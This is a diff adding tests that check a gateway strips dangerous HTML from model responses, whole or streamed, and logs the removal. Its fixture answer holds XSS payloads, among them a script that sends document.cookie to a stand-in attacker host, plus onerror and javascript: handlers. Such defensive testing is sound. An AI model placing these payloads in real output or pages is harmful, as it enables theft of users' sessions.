@@ -311,3 +311,45 @@ describe('structured output checked against the requested schema', () => {
     expect(event?.findings).toContainEqual(expect.objectContaining({ stage: 'output-schema', kind: 'schema', rules: ['schema-mismatch'], action: 'block' }));
   });
 });
+
+describe('HTML in model output, for applications that render it', () => {
+  let t: TestGateway;
+  const answer = 'Here is <b onclick="steal()">your summary</b>.<script>fetch("https://evil.example/?c="+document.cookie)</script> See <img src=x onerror=alert(1)> and <a href="javascript:alert(1)">this</a>.';
+  const expected = 'Here is <b>your summary</b>. See  and this.';
+  beforeAll(async () => {
+    t = await startTestGateway({
+      behavior: (record) => {
+        if (!record.rawBody.includes('summarize')) return undefined;
+        if (record.path === '/v1/messages') return { kind: 'raw-events', events: anthropicEvents(answer, 5) };
+        return record.body?.stream === true ? { kind: 'raw-events', events: chatEvents(answer, 5) } : { kind: 'status', status: 200, body: chatJson(answer) };
+      },
+      chunkDelayMs: 1,
+      environment: { output: { html: { action: 'sanitize', profile: 'basic' } } },
+    });
+  });
+  afterAll(() => t.close());
+
+  it('sanitizes a whole response and records what it removed', async () => {
+    const client = new OpenAI({ baseURL: `${t.url}/v1`, apiKey: t.key, maxRetries: 0 });
+    const { data, response } = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'summarize' }] }).withResponse();
+    expect(data.choices[0]?.message.content).toBe(expected);
+    const event = (await auditEvents(t)).find((e) => e.requestId === response.headers.get('x-request-id'));
+    expect(event?.findings).toContainEqual(expect.objectContaining({ stage: 'output-html', kind: 'html', action: 'redact', rules: expect.arrayContaining(['html:element:script', 'html:attributes:b']) }));
+  });
+
+  it('sanitizes a chat stream split into 5-character deltas', async () => {
+    const client = new OpenAI({ baseURL: `${t.url}/v1`, apiKey: t.key, maxRetries: 0 });
+    let text = '';
+    for await (const chunk of await client.chat.completions.create({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'summarize' }] })) {
+      text += chunk.choices[0]?.delta.content ?? '';
+    }
+    expect(text).toBe(expected);
+  });
+
+  it('sanitizes an Anthropic stream', async () => {
+    const client = new Anthropic({ baseURL: t.url, apiKey: t.key, maxRetries: 0 });
+    const message = await client.messages.stream({ model: 'claude-sonnet-4-5', max_tokens: 200, messages: [{ role: 'user', content: 'summarize' }] }).finalMessage();
+    const block = message.content[0];
+    expect(block?.type === 'text' ? block.text : '').toBe(expected);
+  });
+});
